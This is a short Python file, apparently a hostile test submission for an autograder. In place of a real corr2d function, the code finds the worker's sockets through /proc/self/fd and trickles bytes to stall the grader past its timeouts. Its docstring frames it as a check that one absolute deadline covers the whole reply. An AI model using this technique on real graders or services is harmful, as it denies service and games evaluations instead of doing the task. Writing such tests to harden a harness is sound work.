"""Trickles a reply, one byte every 2.5 s, to keep the grader waiting past every timeout.

Student code shares the worker child's process, so it can find the child's socket
(/proc/self/fd) and write raw frames to it: a header that announces 1000 bytes, then
the bytes one at a time. One absolute deadline must cover the whole reply.
"""
import os
import struct
import time


def _sockets():
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                yield int(fd)
        except OSError:
            pass


def corr2d(X, K):
    fds = list(_sockets())
    for fd in fds:
        os.write(fd, struct.pack(">I", 1000))
    while True:
        for fd in fds:
            try:
                os.write(fd, b" ")
            except OSError:
                pass
        time.sleep(2.5)
